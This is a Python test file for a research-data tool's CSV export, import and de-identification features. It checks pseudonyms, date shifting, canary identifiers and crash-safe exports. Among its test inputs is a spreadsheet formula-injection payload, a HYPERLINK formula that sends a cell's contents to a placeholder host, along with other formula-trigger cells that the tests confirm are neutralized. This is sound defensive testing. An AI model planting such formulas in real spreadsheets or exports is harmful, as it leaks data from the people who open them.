"""Research exports and imports: documented CSVs, de-identification, all-or-nothing imports."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import days_ago, open_db, snapshot
from vpslog.core import Program
from vpslog.deid import FORMULA_TRIGGERS, date_shift, neutralize, participant_pseudonym, restore, staff_pseudonym

TABLE_FILES = ("sites", "specialists", "participants", "screenings", "allocations", "sessions", "supervision",
               "milestones")


@pytest.fixture
def demo_db(cli, env):
    cli.ok("demo", "--seed", "5")
    return env


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def all_rows(db: Path) -> dict[str, list[tuple]]:
    conn = sqlite3.connect(db)
    try:
        return {t: conn.execute(f'SELECT * FROM "{t}" ORDER BY id').fetchall()
                for t in ("site", "specialist", "participant", "screening", "allocation", "session",
                          "supervision", "milestone")}
    finally:
        conn.close()


def test_export_then_import_into_a_fresh_store_round_trips_every_table(cli, demo_db, tmp_path):
    out = tmp_path / "out"
    result = cli.ok("export", "--out", str(out))
    assert "datapackage.json, codebook.md, manifest.json" in result.stdout
    fresh = tmp_path / "fresh.db"
    cli.ok("--db", str(fresh), "init")
    for table in TABLE_FILES:
        cli.ok("--db", str(fresh), "import", table, str(out / f"{table}.csv"))
    assert all_rows(fresh) == all_rows(demo_db)
    again = tmp_path / "again"
    cli.ok("--db", str(fresh), "export", "--out", str(again))
    for table in TABLE_FILES:
        assert (again / f"{table}.csv").read_bytes() == (out / f"{table}.csv").read_bytes()
    rerun = cli.ok("--db", str(fresh), "import", "sessions", str(out / "sessions.csv"))
    assert rerun.stdout.startswith("imported 0 sessions") and "identical rows already present" in rerun.stdout


def test_exports_are_private_documented_and_valid_frictionless_packages(cli, demo_db, tmp_path):
    from frictionless import validate

    for extra in ([], ["--deidentify", "--wide"]):
        out = tmp_path / ("deid" if extra else "plain")
        cli.ok("export", "--out", str(out), *extra)
        assert os.stat(out).st_mode & 0o777 == 0o700
        assert all(os.stat(p).st_mode & 0o777 == 0o600 for p in out.iterdir())
        report = validate(out / "datapackage.json")
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
        codebook = (out / "codebook.md").read_text()
        assert "## sessions (sessions.csv" in codebook and "`career-exploration`" in codebook
        assert "prefixed with `'`" in codebook
    header = read_csv(tmp_path / "plain" / "sessions.csv")[0].keys()
    assert list(header)[:6] == ["id", "participant_id", "specialist_id", "date", "start_time", "minutes"]
    assert "units" in header and "note" in header
    wide = read_csv(tmp_path / "deid" / "sessions.csv")[0]
    assert "c_career_exploration" in wide and wide["note"] in ("", "withheld") and wide["location"] in ("", "withheld")


def test_the_export_is_audited_and_the_manifest_records_the_chain_head(cli, demo_db, tmp_path):
    cli.ok("export", "sessions", "participants", "--out", str(tmp_path / "out"), "--deidentify")
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    conn = sqlite3.connect(demo_db)
    seq, action, after, digest = conn.execute("SELECT seq, action, after, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
    conn.close()
    assert action == "export" and manifest["audit_head"] == {"seq": seq, "hash": digest}
    assert json.loads(after)["tables"] == ["participants", "sessions"] and json.loads(after)["deidentified"] is True
    assert manifest["tables"] == ["participants", "sessions"]
    assert any("shifted back" in step for step in manifest["transformations"])


def test_units_follow_the_rounding_rule(cli, program_db, tmp_path):
    for minutes, kind in ((7, "individual"), (8, "individual"), (22, "individual"), (23, "group"), (60, "no-show")):
        cli.ok("log", "P-0001", str(minutes), "-t", kind)
    rows = read_csv(_export_one(cli, tmp_path, "sessions"))
    assert sorted((int(r["minutes"]), int(r["units"])) for r in rows) == [(7, 0), (8, 1), (22, 1), (23, 2), (60, 0)]


def _export_one(cli, tmp_path, table, *extra) -> Path:
    cli.ok("export", table, "--out", str(tmp_path / "one"), *extra)
    return tmp_path / "one" / f"{table}.csv"


def test_formula_cells_are_neutralized_and_numbers_left_alone(cli, program_db, tmp_path):
    cli.ok("log", "P-0001", "45", "--location", "=HYPERLINK(\"x\")", "-n", "@SUM(1+1)")
    cli.ok("log", "P-0001", "30", "--location", "-2 floors, room \"B\"", "-n", "'=already guarded")
    rows = read_csv(_export_one(cli, tmp_path, "sessions"))
    assert {r["location"] for r in rows} == {"'=HYPERLINK(\"x\")", "'-2 floors, room \"B\""}
    assert {r["note"] for r in rows} == {"'@SUM(1+1)", "''=already guarded"}
    assert {r["minutes"] for r in rows} == {"45", "30"}
    fresh = tmp_path / "fresh.db"
    cli.ok("--db", str(fresh), "init")
    for table in ("sites", "specialists", "participants", "sessions"):
        cli.ok("export", table, "--out", str(tmp_path / "all"))
        cli.ok("--db", str(fresh), "import", table, str(tmp_path / "all" / f"{table}.csv"))
    assert all_rows(fresh)["session"] == all_rows(program_db)["session"]


TAMPERED = '=HYPERLINK("http://example.invalid/?"&A1,"open, please")'
"""A formula with a comma and quotes, as a tired user (a database browser) or an attacker could
write into a code, id or date cell of a store, where vpslog itself never puts one."""


@pytest.mark.parametrize("deidentify", [False, True])
def test_the_guard_holds_for_codes_ids_and_dates_edited_outside_vpslog(cli, demo_db, tmp_path, deidentify):
    """Every text cell of every table is guarded, not only free text: the cells are where they belong
    and none starts with a formula trigger (audit verify reports the edits; the export stays safe)."""
    conn = sqlite3.connect(demo_db)
    with conn:
        conn.execute("PRAGMA ignore_check_constraints = ON")  # as anyone with the sqlite3 shell may
        conn.execute("UPDATE session SET mode = ?, components = ?, start_time = ?, date = ? "
                     "WHERE rowid IN (SELECT rowid FROM session ORDER BY rowid LIMIT 3)",
                     (TAMPERED, "@cmd", "-1+1", "+2026-01-01"))
        conn.execute("UPDATE site SET id = ? WHERE id = (SELECT min(id) FROM site)", ("=1+1,x",))
        conn.execute("UPDATE milestone SET kind = ? WHERE rowid = (SELECT min(rowid) FROM milestone)", ('"x",\n=2',))
    out = tmp_path / "out"
    cli.ok("export", "--out", str(out), *(["--deidentify"] if deidentify else []))
    for table in TABLE_FILES:
        with open(out / f"{table}.csv", encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        assert all(len(row) == len(rows[0]) for row in rows), table  # no cell shifted
        assert not any(cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row
                       if not re.fullmatch(r"-?\d+(\.\d+)?", cell)), table  # numbers are left alone
    sessions = read_csv(out / "sessions.csv")
    assert sum(r["mode"] == "'" + TAMPERED for r in sessions) == 3
    if not deidentify:
        assert sum(r["components"] == "'@cmd" and r["start_time"] == "'-1+1" and r["date"] == "'+2026-01-01"
                   for r in sessions) == 3
        assert "'=1+1,x" in {r["id"] for r in read_csv(out / "sites.csv")}
        assert '"x",\n=2' in {r["kind"] for r in read_csv(out / "milestones.csv")}  # quoted whole, not guarded


def test_out_dash_writes_one_table_to_stdout_and_refuses_more(cli, program_db):
    result = cli.ok("export", "participants", "--out", "-")
    assert result.stdout.splitlines()[0].startswith("id,site_id,enrolled_on,arm")
    assert len(result.stdout.splitlines()) == 3
    result = cli("export", "participants", "sessions", "--out", "-")
    assert result.exit_code == 1
    assert result.stderr == "error: --out - writes one table to standard output: name exactly one table\n"


def test_export_filters_by_site_arm_and_dates(cli, demo_db, tmp_path):
    rows = read_csv(_export_one(cli, tmp_path, "participants", "--site", "NORTH", "--arm", "vps"))
    assert rows and {(r["site_id"], r["arm"]) for r in rows} == {("NORTH", "vps")}
    since = (date.today() - timedelta(days=30)).isoformat()
    rows = read_csv(_export_one(cli, tmp_path, "sessions", "--since", "-30d"))
    assert rows and min(r["date"] for r in rows) >= since


CANARY = {
    "exit_reason": "moved in with Canary Q. Placeholder",
    "note": "call 555-0100 or canary@example.invalid; born 1961-02-14; ZIP 99999; MRN-00424242",
    "location": "4 Canary Lane",
}


def test_a_canary_participant_leaves_no_identifier_in_a_deidentified_export(cli, env, tmp_path):
    cli.ok("init")
    secret = bytes.fromhex((env.parent.parent / "config" / "secret").read_text().strip())
    real = {date(2026, 2, 3), date(2026, 2, 10), date(2026, 3, 1)}  # enrolled and consent, session, exit

    def unrelated(pid: str) -> bool:
        """A shift that moves none of the real dates onto another of them (a date seen in the export
        would then be a coincidence, not a leak; with shift 7 the session lands on the enrollment day)."""
        shift = timedelta(days=date_shift(secret, pid))
        return shift.days > 0 and not {d - shift for d in real} & real

    pid = next(pid for pid in (f"P-{n:04d}" for n in range(900, 999)) if unrelated(pid))
    prog = Program.open(env)
    prog.add_site("S1", "Site one")
    prog.add_specialist("PS1", "S1", "Specialist A", date(2025, 1, 1))
    prog.add_participant(pid, "S1", date(2026, 2, 3), birth_year=1961, consent_on=date(2026, 2, 3), arm="vps")
    day = date(2026, 2, 10)
    prog.log_session(pid, specialist="PS1", minutes=45, on=day, type="individual", mode="phone",
                     note=CANARY["note"], location=CANARY["location"])
    prog.log_milestone(pid, "interview", on=day, detail=CANARY["note"])
    prog.log_supervision("PS1", supervisor="Canary Q. Placeholder", minutes=30, on=date(2026, 2, 11), note=CANARY["note"])
    prog.exit_participant(pid, date(2026, 3, 1), CANARY["exit_reason"])
    prog.close()
    out = tmp_path / "deid"
    cli.ok("export", "--out", str(out), "--deidentify")
    dump = "\n".join(p.read_text() for p in out.iterdir())
    forbidden = [pid, "Specialist A", "1961", "2026-02-03", "2026-02-10", "2026-03-01", "Canary", "555-0100",
                 "canary@", "99999", "MRN-00424242", "Lane"]
    # whole tokens: a hex hash or a pseudonym may contain "1961" or "99999" by chance
    assert [word for word in forbidden if re.search(rf"(?<![0-9a-zA-Z]){re.escape(word)}(?![0-9a-zA-Z])", dump)] == []
    assert participant_pseudonym(secret, pid) in dump
    shifted = (day - timedelta(days=date_shift(secret, pid))).isoformat()
    sessions = read_csv(out / "sessions.csv")
    assert sessions[0]["date"] == shifted and sessions[0]["specialist_id"] == staff_pseudonym(secret, "PS1")


ids = st.from_regex(r"[A-Z]{1,3}-?[0-9]{1,6}", fullmatch=True)


@given(st.binary(min_size=32, max_size=32), ids, ids)
def test_pseudonyms_are_stable_distinct_and_valid_study_codes(secret, first, second):
    assert participant_pseudonym(secret, first) == participant_pseudonym(secret, first)
    assert staff_pseudonym(secret, first) == staff_pseudonym(secret, first)
    if first != second:
        assert participant_pseudonym(secret, first) != participant_pseudonym(secret, second)
    from vpslog.curriculum import Catalog

    assert Catalog().participant_pattern.fullmatch(participant_pseudonym(secret, first))
    assert 0 <= date_shift(secret, first) <= 364


@given(st.binary(min_size=32, max_size=32), ids, st.dates(min_value=date(2000, 1, 1)), st.dates(min_value=date(2000, 1, 1)))
def test_one_shift_per_participant_keeps_intervals(secret, pid, first, second):
    shift = timedelta(days=date_shift(secret, pid))
    assert (second - shift) - (first - shift) == second - first


@given(st.text() | st.builds(lambda a, b: a + b, st.sampled_from(["'", "''", "'=", "=", "'@"]), st.text()))
def test_no_neutralized_cell_starts_with_a_formula_trigger_and_import_undoes_it(text):
    cell = neutralize(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert restore(cell) == text


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00")
               | st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "'"]), min_size=1, max_size=30))
def test_sqlite_built_cells_parse_back_to_the_neutralized_text(tmp_path_factory, text):
    text = text.strip() or "x"
    folder = tmp_path_factory.mktemp("cells")
    store_path = folder / "s.db"
    os.environ["VPSLOG_CONFIG_DIR"] = str(folder / "config")
    from vpslog import config

    config.ensure_secret()
    prog = Program.open(store_path, create=True)
    prog.add_site("S1", text[:200])
    from vpslog.export import export
    from vpslog.tables import resolve_tables

    export(prog, resolve_tables(["sites"]), folder / "out")
    prog.close()
    [row] = read_csv(folder / "out" / "sites.csv")
    assert row["name"] == neutralize(text.strip())


# -- import refusals ----------------------------------------------------------------


def _sessions_csv(tmp_path, body: str, header: str | None = None) -> Path:
    header = header or "id,participant_id,specialist_id,date,minutes,type,mode,entered_at,entered_by"
    path = tmp_path / "in.csv"
    path.write_text(header + "\n" + body, encoding="utf-8")
    return path


def row(n: int, **override) -> str:
    values = {"id": f"{n:032x}", "participant_id": "P-0001", "specialist_id": "PS1",
              "date": (date.today() - timedelta(days=10)).isoformat(), "minutes": "45", "type": "individual",
              "mode": "phone", "entered_at": "2026-01-01T10:00:00Z", "entered_by": "PS1", **override}
    return ",".join(values.values()) + "\n"


def test_import_reports_every_bad_row_and_writes_nothing(cli, program_db, tmp_path):
    body = (row(1) + row(2, minutes="500") + row(3, participant_id="P-0099") + row(4, type="chat")
            + row(5, date="2099-01-01") + row(6, date=(date.today() - timedelta(days=400)).isoformat()) + row(1))
    before = snapshot(program_db)
    result = cli("import", "sessions", str(_sessions_csv(tmp_path, body)))
    assert result.exit_code == 1
    path = tmp_path / "in.csv"
    lines = result.stderr.splitlines()
    assert lines[0] == f"error: 6 bad rows in {path}; nothing was imported:"
    assert lines[1] == f"{path}:3: minutes: must be at most 480 (got '500')"
    assert lines[2] == f"{path}:4: participant_id: unknown participant 'P-0099'"
    assert lines[3].startswith(f"{path}:5: type: unknown session type 'chat'")
    assert lines[4].startswith(f"{path}:6: session date 2099-01-01 is in the future")
    assert lines[5].startswith(f"{path}:7: session date ") and "is before P-0001 enrolled" in lines[5]
    assert lines[6] == f"{path}:8: id {1:032x} appears twice in the file"
    assert snapshot(program_db) == before


@pytest.mark.parametrize("content,message", [
    (b"id,participant_id,specialist_id,date,minutes,type,mode,entered_at,entered_by\n1,2\x003\n", "contains a NUL byte"),
    ("id,participant_id,specialist_id,date,minutes,type,mode,entered_at,entered_by\nna\xefve\n".encode("latin-1"),
     "not UTF-8 text (byte 0xef)"),
    (b"id,participant,specialist_id,date,minutes,type,mode,entered_at,entered_by\n",
     "unknown column 'participant' for sessions; did you mean participant_id?"),
    (b"id,specialist_id,date,minutes,type,mode,entered_at,entered_by\n", "missing column participant_id for sessions"),
    (b"id,participant_id,specialist_id,date,minutes,type,mode,entered_at,entered_by\n\"abc,P-0001\n", "a quoted cell is never closed"),
    (b"", "the file is empty; expected a header row"),
])
def test_import_refuses_a_malformed_file_with_one_clear_line(cli, program_db, tmp_path, content, message):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    before = snapshot(program_db)
    result = cli("import", "sessions", str(path))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"error: {path}:") and message in result.stderr
    assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.output
    assert snapshot(program_db) == before


@pytest.mark.parametrize("line", [2, 15001])
def test_a_byte_that_is_not_utf8_is_named_by_its_own_line(cli, program_db, tmp_path, line):
    """The reader decodes ahead of the record it is at: the refusal named line 14973 for a byte on 15001,
    and line 1 for one on line 2."""
    header = b"id,participant_id,specialist_id,date,minutes,type,mode,entered_at,entered_by\n"
    rows = [f"{n:032x},P-0001,PS1,{days_ago(5)},45,individual,phone,{days_ago(4)}T17:00:00Z,PS1\n".encode()
            for n in range(1, 15001)]
    rows[line - 2] = rows[line - 2].replace(b"phone", b"ph\xe9ne")
    path = tmp_path / "latin.csv"
    path.write_bytes(header + b"".join(rows))
    result = cli("import", "sessions", str(path))
    assert (result.exit_code, result.stderr) == (
        1, f"error: {path}:{line}: not UTF-8 text (byte 0xe9); save the file as UTF-8 CSV\n")


def test_import_refuses_an_id_that_exists_with_different_content(cli, program_db, tmp_path):
    cli.ok("import", "sessions", str(_sessions_csv(tmp_path, row(7))))
    before = snapshot(program_db)
    result = cli("import", "sessions", str(_sessions_csv(tmp_path, row(7, minutes="50"))))
    assert result.exit_code == 1
    assert f"in.csv:2: id {7:032x} already exists with different content (minutes)" in result.stderr
    assert snapshot(program_db) == before


def test_the_next_export_tidies_what_a_killed_export_left_and_keeps_the_earlier_export(cli, program_db, tmp_path):
    """Killed between its two renames, an export leaves no --out folder, its own temp folder (CSVs in
    clear) and the earlier export set aside. An export that is refused touches none of it; the next
    export that goes ahead removes the temp folder and puts the earlier export back first (so a failure
    would still leave it as it was), saying so; a running export's folder and other names stay."""
    ended = subprocess.Popen(["true"])
    ended.wait()
    cli.ok("log", "P-0001", "30", "-c", "career")
    out = tmp_path / "out"
    cli.ok("export", "sites", "--out", str(out))
    earlier = (out / "manifest.json").read_text()
    partial, aside = tmp_path / f".out.tmp-{ended.pid}-0123456789ab", tmp_path / f".out.tmp-{ended.pid}-0123456789ab.old"
    os.rename(out, aside)
    kept = [tmp_path / f".out.tmp-{os.getpid()}-0123456789ab", tmp_path / f".other.tmp-{ended.pid}-0123456789ab"]
    for folder in (partial, *kept):
        folder.mkdir(mode=0o700)
        (folder / "sessions.csv").write_text("id\n")
    refused = cli("export", "nosuchtable", "--out", str(out))
    assert refused.exit_code == 1 and "note:" not in refused.stderr
    assert partial.exists() and aside.exists() and not out.exists()
    result = cli.ok("export", "sessions", "--out", str(out))
    assert result.stderr == (
        f"note: removed {partial}, left by an interrupted vpslog export (its files were in clear)\n"
        f"note: put back {out}, the earlier export an interrupted vpslog export had set aside as {aside}\n")
    assert not partial.exists() and not aside.exists() and all((folder / "sessions.csv").exists() for folder in kept)
    assert sorted(p.name for p in out.iterdir()) == ["codebook.md", "datapackage.json", "manifest.json", "sessions.csv"]
    assert (out / "manifest.json").read_text() != earlier


KILLED_AT = {  # the call that kills it, when its argument `position` is a path named `name`
    "with its CSVs written": ("vpslog.export._write_private", 0, "datapackage.json"),  # the first file after them
    "between its two renames": ("os.rename", 1, "out"),  # the new export's move, once the earlier is set aside
}


@pytest.mark.parametrize("moment", KILLED_AT)
def test_an_export_killed_outright_never_leaves_a_half_export_at_out(cli, program_db, tmp_path, moment):
    """SIGKILL runs no clean-up. Whenever it comes, --out holds the earlier export whole or nothing
    (never CSVs without their manifest), and the next export removes what the killed one left, puts
    the earlier export back if it was set aside, and writes a whole export."""
    cli.ok("log", "P-0001", "30", "-c", "career")
    out = tmp_path / "out"
    cli.ok("export", "sessions", "--out", str(out))
    earlier = {p.name: p.read_bytes() for p in out.iterdir()}
    cli.ok("log", "P-0002", "45", "-c", "hope")
    function, position, named = KILLED_AT[moment]
    owner, name = function.rsplit(".", 1)
    dies = (
        "import os, signal, sys\n"
        f"import {owner}\n"
        f"real = {owner}.{name}\n"
        "def dies(*args, **kwargs):\n"
        f"    if os.path.basename(str(args[{position}])) == {named!r}:\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "    return real(*args, **kwargs)\n"
        f"{owner}.{name} = dies\n"
        "from vpslog.cli import app\n"
        "app(sys.argv[1:])\n")
    child = subprocess.run([sys.executable, "-c", dies, "export", "sessions", "--out", str(out)],
                           env=os.environ.copy(), capture_output=True, text=True, timeout=120)
    assert child.returncode == -signal.SIGKILL, child.stderr
    left = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out.tmp-"))
    if moment == "between its two renames":
        assert not out.exists() and [n.endswith(".old") for n in left] == [False, True]
    else:
        assert {p.name: p.read_bytes() for p in out.iterdir()} == earlier and len(left) == 1
    partial = tmp_path / left[0]  # CSVs in clear; whole when the kill came between the renames
    assert (partial / "sessions.csv").exists()
    assert (partial / "manifest.json").exists() == (moment == "between its two renames")
    result = cli.ok("export", "sessions", "--out", str(out))
    assert f"note: removed {partial}, left by an interrupted vpslog export" in result.stderr
    assert ("note: put back" in result.stderr) == (moment == "between its two renames")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.tmp-")] == []
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["rows"] == {"sessions": 2}
    assert [f["sha256"] for f in manifest["files"]] == [hashlib.sha256((out / "sessions.csv").read_bytes()).hexdigest()]


def test_a_killed_import_leaves_the_store_as_it_was(cli, program_db, tmp_path):
    body = "".join(row(n) for n in range(1, 150_001))
    path = _sessions_csv(tmp_path, body)
    before = snapshot(program_db)
    child = subprocess.Popen([sys.executable, "-m", "vpslog", "import", "sessions", str(path)],
                             env=os.environ.copy(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wal = program_db.with_name(program_db.name + "-wal")
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (wal.exists() and wal.stat().st_size > 1_000_000):
        time.sleep(0.02)
    assert child.poll() is None, "the import finished before it could be killed"
    child.send_signal(signal.SIGKILL)
    child.wait()
    conn = sqlite3.connect(program_db)
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    conn.close()
    assert snapshot(program_db) == before


# -- de-identified exports must not link back ---------------------------------------


def _tokens(folder: Path) -> set[str]:
    """Every cell and every JSON/markdown word of an export folder, as whole tokens."""
    return set(re.findall(r"[^\s,;\"'|`{}\[\]():]+", "\n".join(p.read_text() for p in folder.iterdir())))


def test_a_deidentified_export_shares_no_id_with_the_identified_one(cli, demo_db, tmp_path):
    cli.ok("export", "--out", str(tmp_path / "plain"))
    cli.ok("export", "--out", str(tmp_path / "deid"), "--deidentify")
    identifying = {"id", "participant_id", "specialist_id", "site_id", "entered_by"}
    real = {row[column] for table in TABLE_FILES for row in read_csv(tmp_path / "plain" / f"{table}.csv")
            for column in identifying & row.keys() if row[column]}
    assert len(real) > 1000
    assert sorted(real & _tokens(tmp_path / "deid")) == []
    for table in TABLE_FILES:  # rows in pseudonym order, not in the order they were entered
        ids = [row["id"] for row in read_csv(tmp_path / "deid" / f"{table}.csv")]
        assert ids == sorted(ids)
    again = tmp_path / "again"
    cli.ok("export", "--out", str(again), "--deidentify")
    for table in TABLE_FILES:  # pseudonyms are stable: a later export of the same store links up
        assert (again / f"{table}.csv").read_bytes() == (tmp_path / "deid" / f"{table}.csv").read_bytes()


def test_a_deidentified_allocation_is_numbered_on_the_shifted_timeline_not_the_real_one(cli, demo_db, tmp_path):
    cli.ok("export", "allocations", "--out", str(tmp_path / "deid"), "--deidentify")
    rows = read_csv(tmp_path / "deid" / "allocations.csv")
    for site in {r["site_id"] for r in rows}:
        numbered = sorted((r for r in rows if r["site_id"] == site), key=lambda r: int(r["number"]))
        assert [int(r["number"]) for r in numbered] == list(range(1, len(numbered) + 1))
        assert [r["allocated_at"] for r in numbered] == sorted(r["allocated_at"] for r in numbered)


CANARY_TEXT = "Canary Q. Placeholder 555-0100 canary@example.invalid"


def test_a_canary_in_every_free_text_field_of_every_table_never_reaches_a_deidentified_export(
        cli, demo_db, tmp_path):
    """Every column the models let hold any text (whatever the table, marked free text or not) gets
    the canary; ids are the linkage test's business."""
    from vpslog.curriculum import Catalog
    from vpslog.models import RECORDS
    from vpslog.tables import TABLES

    catalog = Catalog()
    conn = sqlite3.connect(demo_db)
    conn.row_factory = sqlite3.Row
    planted = set()
    for spec in TABLES.values():
        row = dict(conn.execute(f'SELECT * FROM "{spec.table}" LIMIT 1').fetchone())
        for column in row:
            if column == "id" or column.endswith("_id") or column == "entered_by":
                continue
            try:
                RECORDS[spec.table].model_validate({**row, column: CANARY_TEXT}, context={"catalog": catalog})
            except ValueError:
                continue  # a code, a date, a number: no room for a name
            conn.execute(f'UPDATE "{spec.table}" SET "{column}" = ?', (CANARY_TEXT,))
            planted.add((spec.name, column))
    conn.commit()
    conn.close()
    assert {("sites", "name"), ("specialists", "name"), ("participants", "exit_reason"), ("screenings", "reasons"),
            ("sessions", "note"), ("sessions", "location"), ("sessions", "void_reason"), ("supervision", "supervisor"),
            ("milestones", "detail")} <= planted
    plain, deid = tmp_path / "plain", tmp_path / "deid"
    cli.ok("export", "--out", str(plain))
    cli.ok("export", "--out", str(deid), "--deidentify", "--wide")
    assert CANARY_TEXT in (plain / "sites.csv").read_text()
    dump = "\n".join(p.read_text() for p in deid.iterdir())
    assert [word for word in ("Canary", "555-0100", "canary@") if word in dump] == []
    for table, column in planted:
        assert {row[column] for row in read_csv(deid / f"{table}.csv")} == {"withheld"}


def test_the_manifest_of_a_deidentified_export_holds_no_real_date_and_filters_apply_to_shifted_dates(
        cli, demo_db, tmp_path):
    # wide enough that some NORTH sessions stay after any participant's random shift (0-364 days)
    since = (date.today() - timedelta(days=250)).isoformat()
    cli.ok("export", "sessions", "--out", str(tmp_path / "deid"), "--deidentify", "--since", since,
           "--site", "NORTH")
    manifest = json.loads((tmp_path / "deid" / "manifest.json").read_text())
    assert "exported_at" not in manifest
    assert manifest["filters"]["since"] == since and manifest["filters"]["site"].startswith("ST-")
    assert re.findall(r"\d{4}-\d{2}-\d{2}", json.dumps(manifest)) == [since]
    rows = read_csv(tmp_path / "deid" / "sessions.csv")
    assert rows and min(r["date"] for r in rows) >= since
    assert "NORTH" not in "\n".join(p.read_text() for p in (tmp_path / "deid").iterdir())
    cli.ok("export", "sessions", "--out", str(tmp_path / "plain"), "--since", since)
    assert "exported_at" in json.loads((tmp_path / "plain" / "manifest.json").read_text())


def test_a_deidentified_export_imports_into_a_fresh_store_and_fidelity_recomputes(cli, demo_db, tmp_path):
    """Every table, reviews and their action items' owners included (an owner's pseudonym came back in
    lower case and the store refused it)."""
    out, fresh = tmp_path / "deid", tmp_path / "fresh.db"
    cli.ok("export", "--out", str(out), "--deidentify")
    cli.ok("--db", str(fresh), "init")
    assert any(row["owner"] for row in read_csv(out / "review_findings.csv"))
    for table in (*TABLE_FILES, "reviews", "review_items", "review_observations", "review_findings"):
        cli.ok("--db", str(fresh), "import", table, str(out / f"{table}.csv"))
    assert cli.ok("--db", str(fresh), "audit", "verify").stdout.startswith("audit trail verified")
    # rules that compare a participant's own dates are blind to the shift; the as-of date, staff dates are not
    shift_free = {"eligible-consented", "arm-integrity", "vocational-focus", "curriculum-coverage",
                  "no-clinical-services", "timely-documentation"}

    def summary(*db):
        report = json.loads(cli.ok(*db, "fidelity", "--format", "json").stdout)
        return {row["rule"]: row for row in report["summary"] if row["rule"] in shift_free}

    assert summary("--db", str(fresh)) == summary()


def test_a_deidentified_observation_is_dated_by_its_sessions_shifted_day(cli, demo_db, tmp_path):
    """An observation's entry time was exported as it is while its session's date was shifted: a
    session observed the day it took place gave its participant's offset. Shifted, it fell between its
    review's real start and signing, which gave it again. It is now its session's shifted day."""
    cli.ok("export", "review_observations", "sessions", "--out", str(tmp_path / "real"))
    cli.ok("export", "review_observations", "--out", str(tmp_path / "deid"), "--deidentify")
    sessions = {row["id"]: row for row in read_csv(tmp_path / "real" / "sessions.csv")}
    secret = bytes.fromhex((demo_db.parent.parent / "config" / "secret").read_text().strip())
    expected = []
    for row in read_csv(tmp_path / "real" / "review_observations.csv"):
        session = sessions[row["session_id"]]
        day = date.fromisoformat(session["date"]) - timedelta(days=date_shift(secret, session["participant_id"]))
        expected.append(f"{day}T00:00:00Z")
    observed = [row["entered_at"] for row in read_csv(tmp_path / "deid" / "review_observations.csv")]
    assert expected and sorted(observed) == sorted(expected)


def test_no_deidentified_date_time_keeps_its_time_of_day(cli, demo_db, tmp_path):
    """A shift of whole days kept each entry's time of day, and staff times (a supervision, a review)
    are not shifted: an entry of each made in one sitting matched to the second, which gave the
    participant's offset, and every date of theirs with it (all 99 of the demo)."""
    cli.ok("supervision", "log", "PS01", "45", "--supervisor", "Supervisor A")
    cli.ok("export", "--out", str(tmp_path / "deid"), "--deidentify")
    package = json.loads((tmp_path / "deid" / "datapackage.json").read_text())
    moments = 0
    for resource in package["resources"]:
        columns = [f["name"] for f in resource["schema"]["fields"] if f["type"] == "datetime"]
        for row in read_csv(tmp_path / "deid" / resource["path"]):
            for column in columns:
                if row[column]:  # a participant's: seconds that only order that day's entries of theirs
                    assert re.fullmatch(r"\d{4}-\d\d-\d\dT00:0\d:\d\dZ", row[column]), (resource["path"], column, row[column])
                    moments += 1
    assert moments > 1000


def test_a_deidentified_export_keeps_the_order_of_a_participants_entries_of_a_day(cli, program_db, tmp_path):
    """Written as their day only, two sessions of one day lost the order they were entered in, which
    fidelity reads (runs, first sessions): a de-identified import then judged them otherwise."""
    for code in ("resume", "hope", "empathy"):
        cli.ok("log", "P-0001", "45", "-d", days_ago(3), "-c", code)
    read = open_db(program_db).execute("SELECT components FROM session ORDER BY date, entered_at, id")
    order = [row[0] for row in read]  # as fidelity reads them (in one second: by id)
    cli.ok("export", "sessions", "--out", str(tmp_path / "deid"), "--deidentify")
    rows = sorted(read_csv(tmp_path / "deid" / "sessions.csv"), key=lambda row: row["entered_at"])
    assert [row["components"] for row in rows] == order
    assert [row["entered_at"][10:] for row in rows] == ["T00:00:00Z", "T00:00:01Z", "T00:00:02Z"]


def test_a_filtered_deidentified_export_gives_each_row_the_time_an_unfiltered_one_does(cli, demo_db, tmp_path):
    """The order of a participant's entries of a day was ranked among the rows a filter kept: an export
    `--since` gave some rows another time, and it no longer imported beside the full export."""
    tables = ("sessions", "milestones", "allocations")
    cli.ok("export", *tables, "--out", str(tmp_path / "all"), "--deidentify")
    cli.ok("export", *tables, "--out", str(tmp_path / "part"), "--deidentify", "--since", "2026-06-01")
    cli.ok("export", *tables, "--out", str(tmp_path / "arm"), "--deidentify", "--arm", "vps")
    for name, column in (("sessions.csv", "entered_at"), ("milestones.csv", "entered_at"), ("allocations.csv", "number")):
        whole = {row["id"]: row[column] for row in read_csv(tmp_path / "all" / name)}
        for part in ("part", "arm"):  # an allocation's number is its order within the site: the same too
            kept = {row["id"]: row[column] for row in read_csv(tmp_path / part / name)}
            assert kept and all(whole[record] == value for record, value in kept.items()), (part, name)


@pytest.mark.parametrize("extra", [["--since", "2026-06-01"], ["--until", "2026-06-01", "--deidentify"],
                                   ["--arm", "control"], ["--site", "NORTH", "--deidentify"]])
def test_a_filtered_export_is_a_valid_frictionless_package_too(cli, demo_db, tmp_path, extra):
    """Each table is filtered on its own terms, so a session can name a participant enrolled before
    --since, or an observation a session of the other arm: the declared foreign keys failed
    `frictionless validate`. A filtered export declares none."""
    from frictionless import validate

